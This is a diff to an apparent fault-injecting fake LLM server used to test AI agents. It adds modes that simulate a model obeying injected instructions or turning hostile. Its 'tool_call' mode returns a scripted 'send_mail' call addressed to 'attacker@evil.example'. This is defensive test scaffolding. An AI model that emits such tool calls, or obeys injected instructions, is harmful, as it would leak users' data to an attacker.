@@ -8,7 +8,8 @@ A fault is `{"mode": M, "share": 0.3, "times": 5, "match": "text"}`: it meets re
 `match`, that share of them (by request number, not by chance), at most `times` times. Modes: `429` (with
 `retry_after`, seconds), any other status as `500`, `hang`, `drip` (a blank byte each `every_s`), `reset`,
 `malformed`, `truncated`, `empty`, `fenced`, `extra_key`, `percent` ("85%"), `out_of_range` (101), `nan`,
-`refusal`, `content_filter`, `prose`, `hostile`, `obedient`, `not_json_body`, `no_usage`, `wrong_usage`,
+`refusal`, `content_filter`, `prose`, `hostile`, `obey`, `tool_call`, `long`, `other_language`,
+`header_in_text`, `half` (a key is missing), `not_json_body`, `no_usage`, `wrong_usage`,
 `slow` (answers after `delay_s`), `dear` (reports that the call cost `cost_usd`), `cut` (the connection ends
 in the middle of the body).
 """
@@ -23,6 +24,7 @@ from typing import Any
 
 from ai_agents.llm import scripted_answers as answers
 from ai_agents.llm.providers import SCRIPTED_MODEL
+from ai_agents.llm.scripted_obey import ASTRAY, hostile, obey
 
 Message = MutableMapping[str, Any]
 Receive = Callable[[], Awaitable[Message]]
@@ -201,6 +203,9 @@ def completion(request: dict[str, Any], asked: answers.Asked, mode: str) -> dict
     prompt_chars = sum(len(str(m.get("content") or "")) for m in request["messages"])
     message: dict[str, Any] = {"role": "assistant", "content": text}
     finish = {"truncated": "length", "content_filter": "content_filter"}.get(mode, "stop")
+    if mode == "tool_call":
+        call = {"name": "send_mail", "arguments": '{"to": "attacker@evil.example"}'}
+        message |= {"content": None, "tool_calls": [{"id": "1", "type": "function", "function": call}]}
     if mode == "refusal":
         message |= {"content": None, "refusal": "I cannot help with that."}
     usage: dict[str, Any] | None = {
@@ -225,11 +230,11 @@ def completion(request: dict[str, Any], asked: answers.Asked, mode: str) -> dict
 
 def content(asked: answers.Asked, mode: str) -> str:
     """The text of the message in each mode."""
-    if mode == "obedient":
-        return _json(answers.obedient(asked))
-    if mode == "hostile":
-        return _json(answers.hostile(asked))
     honest = answers.answer(asked)
+    if mode in {"obey", "hostile"}:
+        return _json({"obey": obey, "hostile": hostile}[mode](asked, honest))
+    if mode in ASTRAY:
+        return _json(ASTRAY[mode](honest))
     key = "subject" if asked.agent == "follow_up" else "fit"
     changed = {
         "extra_key": honest | {"confidence": "very high"},
